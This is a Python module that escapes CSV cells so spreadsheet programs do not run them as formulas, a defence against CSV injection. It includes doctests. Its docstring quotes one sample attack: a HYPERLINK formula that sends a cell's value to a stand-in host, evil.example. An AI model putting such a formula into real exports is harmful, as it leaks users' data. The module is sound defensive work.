"""Tables as CSV files a spreadsheet opens safely (OWASP: CSV injection).

A text cell (or header) that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is run as a formula by spreadsheet programs: ``=HYPERLINK("https://evil.example/?leak="&B3,"Open")``
in an activity's name would become a live link that sends the sheet away. Such text gets a leading
``'`` (shown as text, not run). Numbers stay numbers: only text cells are touched.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

__all__ = ["csv_cell", "table_csv"]

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(text: Any) -> Any:
    """A text cell that a spreadsheet will not run as a formula; anything else unchanged.

    Examples
    --------
    >>> (csv_cell("=HYPERLINK(\\"http://e.x\\")"), csv_cell("-1+2"), csv_cell("@SUM(A1)"), csv_cell("Plan B"),
    ...  csv_cell(-3.5))
    ('\\'=HYPERLINK("http://e.x")', "'-1+2", "'@SUM(A1)", 'Plan B', -3.5)
    """
    if isinstance(text, str) and text.startswith(_FORMULA_START):
        return "'" + text
    return text


def table_csv(table: pd.DataFrame, cells: bool = True) -> bytes:
    """``table`` as UTF-8 CSV without its index, every text header (and, with ``cells``, every
    text cell) made safe with :func:`csv_cell`; numbers are written as they are.

    Examples
    --------
    >>> table_csv(pd.DataFrame({"Activity": ["=1+1", "Reports"], "Time": [-2.0, 8.0]})).decode()
    "Activity,Time\\n'=1+1,-2.0\\nReports,8.0\\n"
    """
    safe = table.rename(columns=csv_cell)
    if cells:
        safe = safe.apply(lambda col: col if pd.api.types.is_numeric_dtype(col) else col.map(csv_cell))
    return safe.to_csv(index=False).encode()
